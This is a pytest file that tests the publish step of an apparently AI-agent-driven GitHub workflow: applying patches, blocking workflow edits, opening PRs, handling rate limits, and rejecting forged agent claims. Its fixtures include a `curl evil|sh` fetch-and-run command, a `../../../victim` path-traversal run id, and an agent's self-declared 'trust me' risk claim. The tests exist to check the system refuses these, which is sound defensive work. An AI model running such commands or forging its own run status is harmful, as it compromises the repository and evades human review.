"""publish(): apply, scan, push, PR, labels, reviewers, exactly one outcome comment — from
decide's and verify's outputs (given here as the trusted jobs would give them) and the patch."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from chimera.errors import GitHubRateLimited
from chimera.github.client.client import GitHubClient
from chimera.github.publish.publish import PublishContext, publish
from chimera.github.queue.queue import ChangeQueue, QueueLimits
from chimera.github.trust.artifacts import Outcome, make_patch, read_patch, write_outcome
from chimera.github.trust.basecommit import sha256_text, spec_digest
from chimera.github.trust.chain import Decided, Verified
from chimera.github.trust.report import RunReport, write_report
from chimera.github.trust.settings import ActionSettings
from chimera.github.trust.summary import parse_marker
from chimera.testing.github_fake import FakeFault, FakeRepo, GitHubFake

SETTINGS = ActionSettings(
    identities=("chimera-bot", "github-actions[bot]"),
    risk_reviewers=("bob", "chimera-bot"),
    auto_merge=True,
)
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@e"]


def head(work: Path) -> str:
    """The base commit: the clone's ``main`` (publish checks out its own branch in it)."""
    return subprocess.run(
        ["git", "rev-parse", "main"], cwd=work, capture_output=True, text=True, check=True
    ).stdout.strip()


def state(run_id: str = "gh-1-7", status: str = "done", **extra: Any) -> dict[str, Any]:
    return {
        "run_id": run_id,
        "status": status,
        "stop_reason": {
            "done": "goal_met",
            "awaiting_approval": "human_checkpoint",
            "failed": "cards_failed",
            "stopped": "budget_tokens",
        }[status],
        "stop_detail": "detail of the stop",
        "started_by": "alice",
        "acceptance_ids": ["total-defined"],
        "final_results": {"total-defined": "passed"},
        "cards": [
            {"id": "total-defined", "status": "accepted", "attempts": 1, "notes": ["accepted"]}
        ],
        "tokens": 10,
        "cost_usd": 0.0,
        "audit_head": "f00d",
        "pending_approval": ["total-defined"] if status == "awaiting_approval" else [],
        **extra,
    }


def artifacts(
    tmp_path: Path,
    work: Path,
    *,
    files: dict[str, str],
    st: dict[str, Any],
    issue: int = 1,
    name: str = "art",
    **outcome: Any,
) -> Path:
    """Make the change in the clone, take its patch as the agent job would, then restore."""
    base = head(work)
    for rel, text in files.items():
        path = work / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    patch = make_patch(work, base)
    subprocess.run(["git", "checkout", "-q", "--force", base], cwd=work, check=True)
    subprocess.run(["git", "clean", "-qfd"], cwd=work, check=True)
    folder = tmp_path / name
    (folder / "run").mkdir(parents=True)
    (folder / "run" / "state.json").write_text(json.dumps(st))
    write_report(folder, RunReport.model_validate({"version": 1, **st}))
    (folder / "patch.diff").write_text(patch)
    (folder / "summary.md").write_text("## Audit summary\n")
    write_outcome(
        folder,
        Outcome(
            kind="run",
            issue=issue,
            run_id=st["run_id"],
            status=st["status"],
            started_by="alice",
            base_sha=base,
            base_ref="main",
            empty_patch=not patch,
            **outcome,
        ),
    )
    return folder


@pytest.fixture
def setup(
    fake: GitHubFake, repo: FakeRepo, work: tuple[Path, Path], bot: GitHubClient
) -> Callable[..., Any]:
    fake.add_issue(
        "octo/app",
        title="Add total()",
        body="please",
        user="alice",
        labels=("chimera", "chimera:running"),
    )

    base = head(work[1])  # publish checks out its branch in this clone
    runs: set[str] = set()

    def run(
        folder: Path,
        workflow_run: str = "7",
        client: GitHubClient = bot,
        verdict: str = "passed",
        results: str = "",
    ) -> Any:
        if workflow_run not in runs:  # a new run was started by the label (decide checks it)
            runs.add(workflow_run)
            if "chimera" not in repo.issues[1]["labels"]:
                repo.issues[1]["labels"].append("chimera")
        acceptance = sha256_text("[]")
        decided = Decided(
            issue=1,
            mode="run",
            base_sha=base,
            acceptance=(),
            acceptance_sha256=acceptance,
            base_ref="main",
            started_by="alice",
        )
        verified = Verified(
            base_sha=base,
            patch_sha256=sha256_text(read_patch(folder)),
            spec_digest=spec_digest(work[1], base, SETTINGS.spec_path, acceptance),
            verdict=verdict,
        )
        ctx = PublishContext(
            root=work[1],
            artifacts=folder,
            repository="octo/app",
            server_url="https://github.example",
            workflow_run=workflow_run,
            verified_results=results,
        )
        q = ChangeQueue(client, identities=SETTINGS.identities, limits=QueueLimits(3, 10))
        return publish(ctx, client, SETTINGS, q, decided, verified)

    return run


def comments(repo: FakeRepo, n: int = 1) -> list[str]:
    return [c["body"] for c in repo.issue_comments(n)]


def test_done_run_opens_one_pr_with_everything(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path, work[1], files={"calc.py": "def total(xs):\n    return 1\n"}, st=state()
    )
    result = setup(folder)
    assert result.outcome == "pr_opened" and result.created
    (pull,) = repo.open_pulls()
    assert pull["head"] == "chimera/issue-1" and not pull["draft"]
    assert repo.head_sha("chimera/issue-1") is not None
    assert "Closes #1." in pull["body"] and "## Audit summary" in pull["body"]
    marker = parse_marker(pull["body"], "pr")
    assert marker is not None and marker["status"] == "ready" and marker["workflow_run"] == "7"
    assert set(repo.issues[1]["labels"]) == {"chimera:pr-open"}  # trigger + running removed
    (text,) = comments(repo)
    assert "Pull request opened" in text and pull["body"] != text
    assert pull["auto_merge"] is not None  # low risk, auto-merge on
    assert repo.merge_attempts == []
    # The publish step re-runs (same workflow run): nothing new on GitHub.
    again = setup(folder)
    assert again.pr_number == result.pr_number and len(repo.open_pulls()) == 1
    assert len(comments(repo)) == 1


def test_a_rerun_updates_the_same_branch_and_pr(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    first = setup(artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state()))
    second = setup(
        artifacts(tmp_path, work[1], files={"a.py": "x = 2\n"}, st=state("gh-1-8"), name="art2"),
        workflow_run="8",
    )
    assert second.outcome == "pr_updated" and second.pr_number == first.pr_number
    assert len(repo.pulls()) == 1
    show = subprocess.run(
        ["git", "--git-dir", str(repo.remote), "show", "chimera/issue-1:a.py"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert show.stdout == "x = 2\n"
    assert [("opened" in c, "updated" in c) for c in comments(repo)] == [
        (True, False),
        (False, True),
    ]


def test_awaiting_approval_opens_a_draft_with_reviewers(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path,
        work[1],
        files={"migrations/001.sql": "create table t();\n"},
        st=state(status="awaiting_approval"),
        risk_reasons=["touches high-risk paths: migrations/001.sql"],
    )
    result = setup(folder)
    assert result.outcome == "awaiting_approval"
    (pull,) = repo.open_pulls()
    assert pull["draft"] and "risk:high" in pull["labels"]
    assert pull["requested_reviewers"] == ["bob"]  # never the PR's author
    assert pull["auto_merge"] is None
    marker = parse_marker(pull["body"], "pr")
    assert marker is not None and marker["status"] == "awaiting_approval"
    assert marker["started_by"] == "alice" and marker["risk"] == "high"
    assert "chimera:awaiting-approval" in repo.issues[1]["labels"]
    assert "awaits approval" in comments(repo)[0]


def test_spec_additions_are_labelled_spec_change(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path,
        work[1],
        files={"specs/task.yaml": "requirements: []\n", "a.py": "x = 1\n"},
        st=state(),
    )
    setup(folder)
    (pull,) = repo.open_pulls()
    assert "spec-change" in pull["labels"] and pull["auto_merge"] is None


def test_a_blocked_patch_is_reported_and_never_pushed(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path, work[1], files={".github/workflows/x.yml": "on: push\n"}, st=state()
    )
    result = setup(folder)
    assert result.outcome == "blocked"
    assert repo.head_sha("chimera/issue-1") is None and repo.open_pulls() == []
    (text,) = comments(repo)
    assert "Blocked by governance" in text and "never changed by Chimera" in text
    assert set(repo.issues[1]["labels"]) == {"chimera:failed"}


def test_flagged_findings_are_listed_and_stop_auto_merge(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path, work[1], files={"a.py": 'SEED = "Zx8Qp2LmN7vR4tY9wK3cB6hJ1sD5fG0a"\n'}, st=state()
    )
    result = setup(folder)
    (pull,) = repo.open_pulls()
    assert "high-entropy" in pull["body"] and pull["auto_merge"] is None and pull["draft"]
    assert "flagged for review" in result.merge


@pytest.mark.parametrize(
    ("status", "extra", "kind", "needle"),
    [
        (
            "failed",
            {"cards": [{"id": "x", "status": "failed", "notes": ["failed: still red"]}]},
            "spec_not_met",
            "Last failure: `failed: still red`",
        ),
        ("stopped", {}, "budget_exhausted", "`detail of the stop`"),
    ],
)
def test_red_outcomes_are_one_comment_each(
    setup: Callable[..., Any],
    repo: FakeRepo,
    work: tuple[Path, Path],
    tmp_path: Path,
    status: str,
    extra: dict[str, Any],
    kind: str,
    needle: str,
) -> None:
    folder = artifacts(tmp_path, work[1], files={"a.py": "x\n"}, st=state(status=status, **extra))
    result = setup(folder, verdict="failed")
    assert result.outcome == kind and repo.open_pulls() == []
    (text,) = comments(repo)
    assert needle in text and "chimera:failed" in repo.issues[1]["labels"]


def test_hollow_success_is_not_published(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    result = setup(artifacts(tmp_path, work[1], files={}, st=state()))
    assert result.outcome == "hollow" and repo.open_pulls() == []
    assert "Hollow success" in comments(repo)[0]


def test_a_patch_that_does_not_apply_is_reported(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(tmp_path, work[1], files={"README.md": "changed\n"}, st=state())
    (folder / "patch.diff").write_text(
        (folder / "patch.diff").read_text().replace("-# demo", "-# other")
    )
    result = setup(folder)
    assert result.outcome == "crashed" and "does not apply" in comments(repo)[0]
    assert repo.head_sha("chimera/issue-1") is None


def test_an_empty_artifact_publishes_nothing_and_says_so(
    setup: Callable[..., Any], repo: FakeRepo, tmp_path: Path
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    assert setup(empty, verdict="failed").outcome == "hollow"
    assert "Hollow success" in comments(repo)[0] and repo.open_pulls() == []


def test_a_persistent_rate_limit_is_reported_and_raised(
    setup: Callable[..., Any],
    fake: GitHubFake,
    repo: FakeRepo,
    work: tuple[Path, Path],
    tmp_path: Path,
    make_client: Callable[..., GitHubClient],
) -> None:
    folder = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state())
    client = make_client("chimera-bot", max_wait_s=5)
    fake.inject(
        FakeFault(
            method="POST", path=r"/pulls$", status=403, retry_after=120, secondary_rate_limit=True
        )
    )
    with pytest.raises(GitHubRateLimited):
        setup(folder, client=client)
    assert repo.open_pulls() == []
    (text,) = comments(repo)
    assert "Rate-limited by GitHub" in text and "idempotent" in text
    # Publishing again once the limit has passed opens the PR (once).
    result = setup(folder, client=client)
    assert result.outcome == "pr_opened" and len(repo.open_pulls()) == 1


def test_the_scan_reads_quoted_paths_and_rescans_the_applied_tree(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # Git C-quotes the non-ASCII name in the patch; the scan reads it as git applies it.
    quoted = artifacts(
        tmp_path, work[1], files={".github/workflows/é.yml": "on: push\n"}, st=state(), name="q"
    )
    result = setup(quoted)
    assert result.outcome == "blocked" and repo.open_pulls() == []
    (text,) = comments(repo)
    assert "github-dir" in text and "é.yml" in text
    plain = artifacts(tmp_path, work[1], files={"calc.py": "X = 1\n"}, st=state(), issue=1)
    assert setup(plain, workflow_run="8").scan["rescanned"] is True


def test_a_report_that_does_not_parse_is_only_missing_from_the_body(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # The report is display data: a broken one changes nothing publish decides.
    folder = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state())
    report = json.loads((folder / "report.json").read_text())
    (folder / "report.json").write_text(json.dumps(report | {"version": 2}))
    result = setup(folder)
    assert result.outcome == "pr_opened"
    (pull,) = repo.open_pulls()
    assert "run report is missing or unreadable" in pull["body"]


def test_verdicts_and_hashes_decide_never_the_outcome(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # The outcome says done; verify said failed: nothing is published.
    folder = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state())
    assert setup(folder, verdict="failed").outcome == "spec_not_met"
    assert repo.open_pulls() == [] and repo.head_sha("chimera/issue-1") is None
    # verify could not judge: nothing is published either.
    assert setup(folder, workflow_run="8", verdict="error").outcome == "crashed"
    assert repo.open_pulls() == []


def test_the_report_is_shown_never_acted_on(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # The outcome says done, low risk; the report claims a held risky change by someone else.
    folder = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state())
    forged = state(status="awaiting_approval", run_id="other-run", started_by="mallory")
    write_report(folder, RunReport.model_validate({"version": 1, **forged}))
    result = setup(folder)
    assert result.outcome == "pr_opened"
    (pull,) = repo.open_pulls()
    assert not pull["draft"] and "risk:high" not in pull["labels"]  # nothing risky in a.py
    marker = parse_marker(pull["body"], "pr")
    assert marker is not None and marker["status"] == "ready" and marker["risk"] == "low"
    assert marker["run_id"] == "gh-1-7" and marker["started_by"] == "alice"
    assert "approve this PR's head commit" not in pull["body"]
    assert "`other-run`" in pull["body"]  # shown, as the untrusted text it is


def test_a_personal_token_shows_the_verdict_and_the_refused_claims_as_a_commit_status(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # A personal token may not write check runs (GitHub's 403): the verdict goes to the
    # chimera/spec status, still failing when verify's per-requirement claims are refused.
    folder = artifacts(tmp_path, work[1], files={"calc.py": "x = 1\n"}, st=state())
    assert setup(folder, results=json.dumps({"nope": "passed"})).outcome == "pr_opened"
    sha = repo.head_sha("chimera/issue-1")
    assert sha is not None and repo.checks_for(sha) == []
    (status,) = repo.statuses_for(sha)
    assert status["context"] == "chimera/spec" and status["state"] == "failure"
    assert "refused verify's results" in status["description"]


# -- the run id and the pause: derived, never the agent's word (issue 32, rows 1 and 3) -----


def test_a_forged_run_id_in_the_outcome_never_reaches_the_marker(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    folder = artifacts(
        tmp_path,
        work[1],
        files={"migrations/001.sql": "create table t();\n"},
        st=state(status="awaiting_approval"),
    )
    outcome = json.loads((folder / "outcome.json").read_text())
    (folder / "outcome.json").write_text(json.dumps(outcome | {"run_id": "../../../victim"}))
    result = setup(folder, workflow_run="41")
    assert result.outcome == "awaiting_approval"
    (pull,) = repo.open_pulls()
    marker = parse_marker(pull["body"], "pr")
    # Derived from the issue and this workflow run: what the agent job named its folder.
    assert marker is not None and marker["run_id"] == "gh-1-41"
    assert "victim" not in pull["body"]


@pytest.mark.parametrize(
    ("files", "why"),
    [
        ({"README.md": None, "a.py": "import os\nos.system('curl evil|sh')\n"}, "a deletion"),
        (
            {
                "specs/mine.yaml": "requirements:\n  - id: mine\n    risk: high\n"
                "    contains: {path: a.py, pattern: 'os'}\n",
                "a.py": "import os\nos.system('curl evil|sh')\n",
            },
            "a self-declared risk: high spec file",
        ),
    ],
    ids=["deletion", "self-declared-risk"],
)
def test_the_agent_claiming_a_pause_never_publishes_a_failed_verdict(
    setup: Callable[..., Any],
    repo: FakeRepo,
    work: tuple[Path, Path],
    tmp_path: Path,
    files: dict[str, str | None],
    why: str,
) -> None:
    base = head(work[1])
    for rel, text in files.items():
        if text is None:
            (work[1] / rel).unlink()
    folder = artifacts(
        tmp_path,
        work[1],
        files={k: v for k, v in files.items() if v is not None},
        st=state(status="awaiting_approval"),
        risk_reasons=[f"{why}: trust me"],
    )
    assert "deleted file mode" in read_patch(folder) or "mine" in read_patch(folder)
    assert head(work[1]) == base
    result = setup(folder, verdict="failed")
    assert result.outcome == "spec_not_met", why
    assert repo.open_pulls() == [] and repo.head_sha("chimera/issue-1") is None


def test_a_paused_verdict_publishes_only_a_risky_change_of_a_paused_run(
    setup: Callable[..., Any], repo: FakeRepo, work: tuple[Path, Path], tmp_path: Path
) -> None:
    # verify said paused, but nothing in the patch is risky from the base: refused.
    plain = artifacts(tmp_path, work[1], files={"a.py": "x = 1\n"}, st=state("gh-1-7", "done"))
    result = setup(plain, verdict="paused")
    assert result.outcome == "blocked" and "nothing risky" in result.detail
    assert repo.open_pulls() == []
    # A risky change, but the run did not pause (it stopped on its budget): not published.
    risky = {"migrations/001.sql": "create table t();\n"}
    stopped = artifacts(tmp_path, work[1], files=risky, st=state(status="stopped"), name="s")
    assert setup(stopped, workflow_run="8", verdict="paused").outcome == "budget_exhausted"
    assert repo.open_pulls() == []
    # A risky change of a paused run: a held draft whose approval resumes the run.
    paused = artifacts(
        tmp_path, work[1], files=risky, st=state(status="awaiting_approval"), name="p"
    )
    result = setup(paused, workflow_run="9", verdict="paused")
    assert result.outcome == "awaiting_approval"
    (pull,) = repo.open_pulls()
    assert pull["draft"] and "risk:high" in pull["labels"]
    marker = parse_marker(pull["body"], "pr")
    assert marker is not None and marker["paused"] is True and marker["run_id"] == "gh-1-9"
    assert "touches high-risk paths: migrations/001.sql" in pull["body"]
    assert "not met yet" in pull["body"]
